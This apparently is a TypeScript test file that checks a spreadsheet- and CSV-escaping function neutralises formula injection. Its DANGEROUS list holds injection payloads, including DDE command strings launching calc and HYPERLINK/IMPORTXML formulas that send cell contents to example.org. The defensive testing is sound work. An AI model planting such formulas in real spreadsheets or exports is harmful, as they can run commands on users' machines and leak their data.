import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvLine, spreadsheetSafe } from './spreadsheet-safe.ts';

const DANGEROUS = [
  '=1+2',
  '=1+2\'" ;,=1+2',
  '=1+2";=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?leak="&A1,"klik")',
  '=IMPORTXML(CONCAT("http://example.org?v=", A2:A9), "//a")',
  '+1+cmd|x!A0',
  '-1+cmd|x!A0',
  '-2+3',
  '- zie bron',
  '@SUM(1+9)*cmd|x!A0',
  '\t=1+2',
  '\tgeheim',
  '\r=1+2',
  '\n=1+2',
  '\u0000=1+2',
  '   =1+2',
  '"=1+2"',
  '" =1+2',
  '\u00A0=1+2',
  '\uFF1D1+2',
  '\uFF0B1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '+31 6 noot',
  '-5,3e',
];

describe('a text in a spreadsheet', () => {
  it.each(DANGEROUS)('%j is shown, never computed', (text) => {
    expect(spreadsheetSafe(text)).toBe(`'${text}`);
  });

  it.each([
    '-12',
    '+5',
    '-1,5',
    '-1.234,5',
    ' -12',
    '812',
    '0',
    '',
    'man',
    "'s-Hertogenbosch",
    'a=b',
    'C03: 5',
    "'=1",
  ])('%j stays as it is', (text) => {
    expect(spreadsheetSafe(text)).toBe(text);
  });

  it('gathers no apostrophes when it travels out and in again', () => {
    const start = fc.constantFrom('', '=', '-', '+', '@', '\t', ' ', '"', "'", '\r', '\uFF1D');
    fc.assert(
      fc.property(fc.array(start, { maxLength: 3 }), fc.string(), (marks, rest) => {
        const safe = spreadsheetSafe(marks.join('') + rest);
        expect(spreadsheetSafe(safe)).toBe(safe);
      }),
    );
  });

  it('never starts a formula, whatever stands before or behind', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(/^["\s\u0000]*[=@]/u.test(spreadsheetSafe(text))).toBe(false);
      }),
    );
  });
});

describe('a line of a CSV', () => {
  it('quotes what would end a cell or start another', () => {
    expect(csvLine(['a;b', 'zei "ja"', 'twee\r\nregels', 5, '=1";=2'])).toBe(
      `"a;b";"zei ""ja""";"twee\r\nregels";5;"'=1"";=2"`,
    );
  });

  it('is read back as its harmless cells', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 2, maxLength: 6 }), (cells) => {
        const [row] = Papa.parse<string[]>(csvLine(cells), { delimiter: ';', newline: '\r\n' }).data;
        expect(row).toEqual(cells.map(spreadsheetSafe));
      }),
    );
  });
});
